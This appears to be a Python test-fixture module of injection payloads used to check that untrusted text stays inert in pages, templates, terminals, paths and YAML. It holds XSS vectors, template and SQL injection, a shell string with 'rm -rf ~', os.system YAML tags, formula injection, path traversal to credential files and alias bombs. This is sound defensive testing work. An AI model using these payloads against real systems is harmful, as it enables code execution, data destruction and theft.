"""Foreign text that must stay text: in pages, tables, paths, files, templates, terminals and messages.

``PAYLOADS`` are by name; ``{canary}`` in one is an address that nobody may fetch (``payloads(canary)`` fills it in).
In a browser each of the active ones would set the page's title to ``hit`` or fetch the canary.
"""

from __future__ import annotations

_HIT = "document.title='hit'"

PAYLOADS = {
    # pages
    "script": f"<script>{_HIT}</script>",
    "script in capitals": f"<ScRiPt >{_HIT}</sCrIpT>",
    "script from elsewhere": '<script src="{canary}/a.js"></script>',
    "handler": f'<img src=x onerror="{_HIT}">',
    "handler without quotes": f"<img/src=x/onerror={_HIT}>",
    "handler that breaks out of double quotes": f'"><img src=x onerror="{_HIT}">',
    "handler that breaks out of single quotes": f"'><img src=x onerror={_HIT}>",
    "handler on focus": f'" autofocus onfocus="{_HIT}" x="',
    "svg": f'<svg onload="{_HIT}"><circle r="9"/></svg>',
    "svg with a script": f"<svg><script>{_HIT}</script></svg>",
    "frame": '<iframe src="{canary}/frame"></iframe>',
    "frame with a page inside": f'<iframe srcdoc="<script>parent.{_HIT}</script>"></iframe>',
    "picture from elsewhere": '<img src="{canary}/pixel.png">',
    "style from elsewhere": '<style>@import "{canary}/a.css";</style><link rel="stylesheet" href="{canary}/b.css">',
    "style attribute": '" style="background:url({canary}/c.png)"',
    "video": f'<video><source onerror="{_HIT}"></video>',
    "details": f'<details open ontoggle="{_HIT}">x</details>',
    "address that is a script": f'<a href="javascript:{_HIT}">here</a>',
    "base": '<base href="{canary}/">',
    "refresh": '<meta http-equiv="refresh" content="0;url={canary}/">',
    "form": '<form action="{canary}/"><input autofocus name=key></form>',
    "end of a script": f"</script><script>{_HIT}</script>",
    "end of a comment": f"--><script>{_HIT}</script><!--",
    "end of a style": f"</style><script>{_HIT}</script>",
    "end of a textarea": f"</textarea></title><script>{_HIT}</script>",
    "entities": f"&lt;script&gt;{_HIT}&lt;/script&gt; &#60;b&#62;",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={_HIT}>">',
    "markdown": f"[here](javascript:{_HIT}) ![x]({{canary}}/md.png) <b>bold</b>",
    "mathjax": r"$$\href{javascript:document.title='hit'}{x}$$ \(\unicode{x3c}\)",
    "command button of a lab": '<button data-commandlinker-command="terminal:create-new">x</button>',
    # templates and formats
    "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja that grows": "{{ 'A'*10**8*8 }}",
    "jinja loop": "{% for i in range(99999999) %}x{% endfor %}",
    "jinja include": "{% include '/etc/passwd' %}",
    "format": "{0.__class__.__init__.__globals__} {prompt.api_key} {}",
    "percent": "%s %n %(key)s %x",
    "shell": "$(touch hit) `touch hit` ; rm -rf ~ | cat",
    "formula": '=HYPERLINK("{canary}/?"&A1,"x")',
    "formula with a command": "@SUM(1+9)*cmd|' /C calc'!A0",
    # databases, YAML, JSON
    "sql": "x'); DROP TABLE results; --",
    "yaml tag": "!!python/object/apply:os.system ['touch hit']",
    "yaml anchors": "&a [*a, *a]",
    "yaml document": "---\nkey: value\n...\n- *x",
    "json": '", "status": "ok", "x": "\\u0000\\ud800',
    # terminals
    "colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "title of a terminal": "\x1b]0;hit\x07 \x1b]8;;{canary}\x1b\\link\x1b]8;;\x1b\\",
    "eight bit controls": "\x9b31m \x90q \x85",
    "carriage return": "done\rFAILED\b\b\b\x7f",
    "nul": "before\0after",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069",
    "lines": "first\n\nsecond\r\n\tthird\u2028fourth",
    # paths
    "parent": "../../../../etc/cron.d/hit",
    "parent for windows": "..\\..\\windows\\system32\\hit",
    "absolute": "/etc/passwd",
    "absolute for windows": "C:\\hit.txt",
    "share": "\\\\127.0.0.1\\share\\hit",
    "device": "CON",
    "device with a suffix": "nul.png",
    "dots": "..",
    "hidden": ".ssh/authorized_keys",
    "stream": "a.png:hit:$DATA",
    "home": "~/hit",
    "encoded parent": "%2e%2e%2f%2e%2e%2fhit",
    "300 letters": "a" * 300,
    "300 wide letters": "画" * 300,
    "trailing dots": "name. . .",
    # sizes and strange characters
    "very long": "long " * 3000,
    "very long word": "x" * 15000,
    "combining": "e" + "\u0301" * 500,
    "emoji": "👩‍👩‍👧‍👦" * 50,
    "noncharacters": "\ufffe\uffff\U0010ffff",
}


def payloads(canary: str) -> dict[str, str]:
    """Return the payloads with ``canary`` as the address that nobody may fetch."""
    return {name: text.replace("{canary}", canary) for name, text in PAYLOADS.items()}


# YAML that must be refused by every reader of a file, with what the refusal says.
_LEVELS = "\n".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 8))
HOSTILE_YAML = {
    "alias bomb": ("a0: &a0 [x, x]\n" + _LEVELS, "anchor or alias"),
    "alias to itself": ("a: &a [*a]", "anchor or alias"),
    "merge key": ("a: &a {x: 1}\nb:\n  <<: *a", "anchor or alias"),
    "python object": ("a: !!python/object/apply:os.system ['touch hit']", "tag"),
    "own tag": ("a: !env HOME", "tag"),
    "binary": ("a: !!binary aGl0", "tag"),
    "key twice": ("a: 1\na: 2", "twice"),
    "two documents": ("a: 1\n---\na: 2", "more than one document"),
    "deep": ("[" * 200 + "]" * 200, "deeper"),
    "a megabyte": ("a: '" + "x" * 1_100_000 + "'", "."),
    "no yaml": ("a: [", "not YAML"),
    "a list as a key": ("? [1, 2]\n: x", "as a key"),
}
